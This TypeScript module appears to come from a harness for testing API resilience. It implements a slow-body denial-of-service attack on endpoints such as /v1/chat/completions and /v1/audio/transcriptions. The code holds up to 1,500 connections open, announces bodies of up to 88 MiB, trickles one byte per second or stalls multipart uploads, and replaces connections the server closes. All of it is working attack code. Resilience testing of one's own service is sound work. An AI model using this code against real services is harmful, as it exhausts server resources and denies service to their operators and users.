/** Slow bodies: large or of unknown length, sent at one byte per second; and forms that stall. */
import { setTimeout as sleep } from 'node:timers/promises'

import { formType, head, partHead } from './client.ts'
import type { Attack } from './target.ts'

/** More than the limit of descriptors, and far fewer than the machine can handle. */
const connectionsMax = 1_500
const tickMs = 50
const openedPerTick = 30
/** Above the limit the API closes connections, and the attacker only replaces them. */
const reopenedPerTick = 5
const oneByte = Buffer.from(' ')
const oneByteChunk = Buffer.from('1\r\n \r\n')
const mebibyte = 1_048_576

export const slowBody: Attack = async ({ keys }) => {
  const json = { 'content-type': 'application/json' }
  const audio = Buffer.alloc(mebibyte, 1)
  const slowJson = (path: string, key: string, announcedBytes: number) => [
    {
      start: Buffer.concat([
        head('POST', path, key, { ...json, 'content-length': announcedBytes }),
        Buffer.from('{'),
      ]),
      drop: oneByte,
    },
    {
      start: Buffer.concat([
        head('POST', path, key, { ...json, 'transfer-encoding': 'chunked' }),
        Buffer.from('1\r\n{\r\n'),
      ]),
      drop: oneByteChunk,
    },
  ]
  const silentForm = (path: string, key: string) => {
    const headers = { 'content-type': formType, 'content-length': 25 * mebibyte }
    const start = Buffer.concat([head('POST', path, key, headers), partHead('file', 'a.mp3'), audio])
    return { start, drop: undefined }
  }
  const kinds = [keys.poor, keys.funded].flatMap((key) => [
    ...slowJson('/v1/videos', key, 88 * mebibyte),
    ...slowJson('/v1/chat/completions', key, 88 * mebibyte),
    ...slowJson('/v1/audio/speech', key, mebibyte),
    silentForm('/v1/audio/transcriptions', key),
    silentForm('/v1/videos', key),
  ])
  return async (client, signal) => {
    let connections = 0
    let opened = 0
    const trickling = new Set<() => void>()
    const openOne = () => {
      const kind = kinds[opened % kinds.length]
      if (kind === undefined) return
      const { start, drop } = kind
      opened += 1
      connections += 1
      const socket = client.open()
      const trickle = () => {
        if (drop !== undefined && socket.writable) socket.write(drop)
      }
      socket.write(start)
      trickling.add(trickle)
      socket.on('close', () => {
        connections -= 1
        trickling.delete(trickle)
      })
    }
    for (let tick = 0; !signal.aborted; tick += 1) {
      const limit = opened < connectionsMax ? openedPerTick : reopenedPerTick
      for (let at = 0; at < limit && connections < connectionsMax; at += 1) openOne()
      if (tick % (1000 / tickMs) === 0) for (const trickle of trickling) trickle()
      await sleep(tickMs, undefined, { signal }).catch(() => undefined)
    }
  }
}
